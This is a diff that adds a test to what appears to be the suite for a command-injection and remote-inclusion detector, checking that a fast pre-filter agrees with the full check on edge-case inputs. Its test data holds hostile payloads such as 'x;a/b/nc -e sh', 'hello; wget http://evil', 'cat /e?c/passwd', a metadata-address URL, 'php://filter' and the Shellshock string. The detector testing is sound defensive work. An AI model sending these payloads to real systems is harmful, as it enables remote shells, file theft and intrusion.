@@ -112,6 +112,55 @@ describe('the pre-filter never changes a verdict', () => {
     )
   }, 600_000)
 
+  it('on values at the edges of the command and remote-inclusion tests (no strong character)', () => {
+    // Without ( ) { } $ < > | ~ ! [ % & ` \ or a line break, a command starts the value or a `;`,
+    // possibly after a path (`example.com/ls`), or is a named construct; a remote inclusion's
+    // scheme, host or `?` is in the value's first word.
+    const edges = [
+      'example.com/ls -la',
+      'example.com/wget -q x',
+      'x;a/b/nc -e sh',
+      'see: a/b/wget http://x',
+      'hello; wget http://evil',
+      "hello; w'g'et http://evil",
+      'hello;/usr/bin/id',
+      'a=/bin/sh',
+      'cat /e?c/passwd',
+      "x '/et?/passwd",
+      'x /etc/pass?d',
+      'module.exports = 1',
+      'alias ls=rm',
+      'if/i a==b echo',
+      'if exist c:\\x',
+      'sh -c id',
+      'a; nohup ifconfig',
+      'whoami',
+      'python3.10 -c x',
+      '; drop by any time. see https://example.com/a?b=1.',
+      '  http://127.0.0.1/x',
+      'localhost#a /b',
+      'file://etc/passwd x',
+      'https://example.com?',
+      'data:text/html,x',
+      'x http://169.254.169.254/',
+      'php://filter/resource=x',
+      '() { :; }; id',
+      ';id',
+      ' | id',
+    ]
+    const wrong: string[] = []
+    for (const value of edges) {
+      for (const kind of KINDS) {
+        for (const name of [undefined, 'include', 'url']) {
+          const bad = disagreements(value, kind, name)
+          if (bad.length > 0)
+            wrong.push(`${JSON.stringify(value)} ${kind} ${name} ${bad.join(',')}`)
+        }
+      }
+    }
+    expect(wrong).toEqual([])
+  })
+
   it('on random values made of the patterns’ words and characters', () => {
     const words = vocabulary()
     expect(words.length).toBeGreaterThan(500)
